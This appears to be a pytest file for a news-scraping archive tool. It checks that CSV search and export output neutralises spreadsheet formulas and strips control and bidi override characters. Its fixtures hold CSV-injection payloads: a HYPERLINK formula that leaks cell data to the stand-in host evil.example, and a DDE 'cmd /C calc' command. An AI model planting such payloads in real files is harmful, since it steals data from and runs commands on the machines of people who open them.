"""Every CSV arsip writes is safe to open in a spreadsheet, and nothing it shows or writes
carries control characters or bidi overrides from the pages."""

from __future__ import annotations

import csv
import io

import pytest

from scraper.archive import Archive
from tests.cli_helpers import arsip, make_article

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
HOSTILE_BODY = "+cmd|' /C calc'!A0 ponsel \u0085murah\u2066 di pasar"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory):
    db = tmp_path_factory.mktemp("hostile") / "archive.db"
    with Archive(str(db)) as archive:
        archive.save_batch(
            [
                make_article(1, "teknokita", HOSTILE_TITLE, HOSTILE_BODY),
                make_article(2, "teknokita", "@SUM(1+1)\u202e ponsel", "-2+3 ponsel bekas"),
            ]
        )
    return db


def unsafe(text: str) -> bool:
    return any(
        0x80 <= ord(c) <= 0x9F or 0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069
        for c in text
    )


def formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_search_csv_neutralises_formulas_and_strips_controls(hostile_db):
    proc = arsip("search", "ponsel", "--csv", db=hostile_db)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    titles = {row[1] for row in rows[1:]}
    assert titles == {"'" + HOSTILE_TITLE, "'@SUM(1+1) ponsel"}
    assert formula_cells(rows) == []
    assert not unsafe(proc.stdout)


def test_export_csv_strips_controls_like_search(hostile_db):
    proc = arsip("export", "--format", "csv", "--fields", "title,body_text", db=hostile_db)
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    assert formula_cells(rows) == []
    assert not unsafe(proc.stdout)
    assert ["'" + HOSTILE_TITLE, "'+cmd|' /C calc'!A0 ponsel murah di pasar"] in rows


def test_terminal_search_shows_no_controls(hostile_db):
    proc = arsip("search", "ponsel", db=hostile_db)
    assert proc.returncode == 0, proc.stderr
    assert "[ponsel] murah di pasar" in proc.stdout
    assert not unsafe(proc.stdout)
